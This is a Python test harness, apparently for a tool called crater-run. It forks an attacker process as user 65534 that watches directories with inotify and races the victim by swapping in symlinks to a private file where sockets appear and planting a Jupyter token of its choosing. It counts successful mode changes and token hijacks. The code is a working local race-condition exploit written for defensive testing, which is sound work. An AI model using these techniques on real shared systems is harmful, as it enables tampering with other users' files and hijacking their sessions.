"""Two users in one container: one starts crater-run again and again, and user 65534 attacks the places where it keeps things.

The attacker watches directories by inotify. When a socket or a run's private directory appears there, it puts something of its
own in its place: a link to a file of the other's where a socket was, a token of its choice where the other's was. A directory that it
cannot rename is attacked from within, and names that it can guess are taken before they are there.

Prints how many tries there were, in how many the other's file lost its mode, and in how many the app got the attacker's token.
"""

import argparse
import ctypes
import errno
import json
import os
import re
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time

parser = argparse.ArgumentParser()
parser.add_argument("--binary", help="crater-run; without it a victim that trusts paths, to see that the attacker can win")
parser.add_argument("--tries", type=int, required=True)
parser.add_argument("--port", required=True)
parser.add_argument("--work", required=True, help="a directory of the victim's")
parser.add_argument("--user", type=int, default=0, help="the victim, who runs crater-run")
parser.add_argument("--named", help="CRATER_RUN_DIR")
parser.add_argument("--opened", default="", help="a directory that everybody may write to at the beginning of each try")
parser.add_argument("watched", nargs="+", help="the directories that the attacker watches")
given = parser.parse_args()

ATTACKER = 65534
TOKEN = "attackersattackersattackers"
secret = os.path.join(given.work, "secret")
record = os.path.join(given.work, "record")


class Watch:
    """inotify(7), by the C library."""

    CREATE, MOVED_TO = 0x100, 0x80

    def __init__(self):
        self.library = ctypes.CDLL(None, use_errno=True)
        self.descriptor = self.library.inotify_init1(os.O_NONBLOCK)
        self.paths = {}

    def add(self, path):
        number = self.library.inotify_add_watch(
            self.descriptor, os.fsencode(path), self.CREATE | self.MOVED_TO | 0x01000000)
        if number >= 0:
            self.paths[number] = path
        return number >= 0

    def read(self):
        try:
            data = os.read(self.descriptor, 1 << 16)
        except BlockingIOError:
            return
        while data:
            number, _, _, length = struct.unpack_from("iIII", data)
            name = data[16:16 + length].rstrip(b"\0")
            data = data[16 + length:]
            yield self.paths.get(number), os.fsdecode(name)


class Attacker:
    def __init__(self):
        self.watch = Watch()
        self.moved = 0

    def run(self):
        self.look()
        os.write(ready[1], b"x")
        while True:
            select.select([self.watch.descriptor], [], [])
            for folder, name in self.watch.read():
                if folder:
                    self.appeared(folder, name)

    def look(self):
        for folder in given.watched:
            self.watch.add(folder)

    def appeared(self, folder, name):
        path = os.path.join(folder, name)
        if name.startswith("crater-run"):
            # What is in it by now has been missed.
            self.watch.add(path)
            try:
                for entry in os.listdir(path):
                    self.appeared(path, entry)
            except OSError:
                pass
        elif name.endswith(".sock") or re.fullmatch(r"\.?[0-9a-f]+", name):
            self.replace(folder, name)

    def replace(self, folder, name):
        """Puts the attacker's own in the place of what has just appeared, the whole directory or this alone."""
        for target in (folder, os.path.join(folder, name)):
            self.moved += 1
            aside = os.path.join(os.path.dirname(target), f"aside.{self.moved}")
            try:
                os.rename(target, aside)
            except OSError:
                continue
            try:
                self.plant(folder, name)
                return
            except OSError:
                continue

    def plant(self, folder, name):
        os.makedirs(folder, exist_ok=True)
        os.chmod(folder, 0o777)
        if name.endswith(".sock"):
            os.symlink(secret, os.path.join(folder, name))
            return
        for run in {name, name.lstrip(".")}:
            app = os.path.join(folder, run, "jupyter")
            os.makedirs(os.path.join(app, "runtime"), exist_ok=True)
            with open(os.path.join(app, "token"), "w") as file:
                file.write(TOKEN)
            for path in (os.path.join(folder, run), app, os.path.join(app, "runtime")):
                os.chmod(path, 0o777)


def wait_for(condition):
    """Gives the attacker time: how much it has otherwise depends on how busy the machine is."""
    until = time.monotonic() + 0.2
    while not condition() and time.monotonic() < until:
        time.sleep(0.001)


def read(path):
    """What the file has; nothing if it cannot be read."""
    try:
        with open(path) as file:
            return file.read()
    except OSError:
        return ""


def trusting_victim():
    """What nobody should do: everything by its path, as if nobody else were there."""
    base = given.named or os.path.join(given.watched[0], "crater-run-0")
    try:
        os.mkdir(base, 0o755)
    except FileExistsError:
        pass
    place = os.path.join(base, ".abc.sock")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(place)
    listener.listen()
    wait_for(lambda: os.path.islink(place))
    try:
        os.chmod(place, 0o666)
    except OSError:
        pass
    token = os.path.join(base, "abc", "jupyter", "token")
    try:
        os.makedirs(os.path.dirname(token), 0o700)
        with open(token, "w") as file:
            file.write("own")
    except OSError:
        pass
    wait_for(lambda: read(token) == TOKEN)
    with open(record, "w") as file:
        file.write(read(token))
    listener.close()


def crater_run():
    environment = {"PATH": os.environ["PATH"], "HOME": given.work, "RECORD": record}
    if given.named:
        environment["CRATER_RUN_DIR"] = given.named
    command = [
        given.binary, "jupyter", "--port", given.port, "--prefix", "/x", "--health-port", "off",
        "--executable", os.path.join(given.work, "jupyter-lab"),
    ]
    done = subprocess.run(
        command, env=environment, stdin=subprocess.DEVNULL, capture_output=True, text=True,
        user=given.user, group=given.user, extra_groups=[])
    if done.returncode != 0:
        sys.exit(f"crater-run: {done.returncode}\n{done.stdout}{done.stderr}")


def clean():
    for folder in given.watched:
        for name in os.listdir(folder) if os.path.isdir(folder) else []:
            path = os.path.join(folder, name)
            if os.path.ismount(path):
                continue
            if name.startswith(("crater-run", "aside")) or folder == given.opened:
                shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.unlink(path)


with open(secret, "w") as file:
    file.write("the victim's")
os.chmod(secret, 0o600)
os.chown(secret, given.user, given.user)
os.chown(given.work, given.user, given.user)
app = os.path.join(given.work, "jupyter-lab")
with open(app, "w") as file:
    file.write('#!/bin/sh\ncat "$JUPYTER_TOKEN_FILE" > "$RECORD"\n')
os.chmod(app, 0o755)

modes = tokens = own = 0
for number in range(given.tries):
    if given.opened:
        os.makedirs(given.opened, exist_ok=True)
        os.chmod(given.opened, 0o777)
    ready = os.pipe()
    attacker = os.fork()
    if attacker == 0:
        os.setgroups([])
        os.setgid(ATTACKER)
        os.setuid(ATTACKER)
        try:
            Attacker().run()
        finally:
            os._exit(1)
    os.read(ready[0], 1)
    crater_run() if given.binary else trusting_victim()
    os.kill(attacker, signal.SIGKILL)
    if os.WIFEXITED(os.waitpid(attacker, 0)[1]):
        sys.exit("the attacker has ended")
    for descriptor in ready:
        os.close(descriptor)
    if os.stat(secret).st_mode & 0o777 != 0o600:
        modes += 1
        os.chmod(secret, 0o600)
    try:
        with open(record) as file:
            token = file.read()
        tokens += token == TOKEN
        own += bool(re.fullmatch("[0-9a-f]{48}", token))
        os.unlink(record)
    except OSError as error:
        if error.errno != errno.ENOENT:
            raise
    clean()
print(json.dumps({"tries": given.tries, "modes": modes, "tokens": tokens, "own": own}))
